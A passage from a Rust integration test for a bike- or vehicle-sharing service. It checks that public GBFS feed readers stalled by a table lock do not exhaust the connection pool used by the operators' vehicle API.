/// (here: held by a lock on the zones), do not take the operators' connections: the API keeps
/// answering.
#[tokio::test]
async fn public_feed_readers_do_not_take_the_operators_connections() {
    let db = TestDb::new().await;
    let mut c = config(&db, &BROKER);
    c.database.pool_size = 2;
    c.database.public_pool_size = 2;
    c.database.pool_wait_ms = 500;
    c.database.statement_timeout_ms = 2000;
    let svc = InProcess::start(c).await;
    let mut locker = db.client().await;
    let tx = locker.transaction().await.unwrap();
    tx.batch_execute("LOCK TABLE zones IN ACCESS EXCLUSIVE MODE")
        .await
        .unwrap();

    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut readers = Vec::new();
    for _ in 0..8 {
        let (stop, u) = (stop.clone(), svc.url("/gbfs/station_information.json"));
        readers.push(tokio::spawn(async move {
            let http = reqwest::Client::new();
            let mut statuses = Vec::new();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let r = tokio::time::timeout(Duration::from_secs(30), http.get(&u).send())
                    .await
                    .expect("a feed request is answered within 30 s")
                    .unwrap();
                statuses.push(r.status());
            }
            statuses
        }));
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    for _ in 0..10 {
        let t = Instant::now();
        let r = get(&svc.url("/api/v1/vehicles")).await.unwrap();
        assert_eq!(r.status(), StatusCode::OK, "after {:?}", t.elapsed());
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let mut refused = 0;
    for r in readers {
        for s in r.await.unwrap() {
            assert!(s.is_server_error(), "a feed read past the lock: {s}");
            refused += 1;
        }
    }
    assert!(refused >= 8, "{refused}");
    drop(tx);
    svc.stop().await;
}
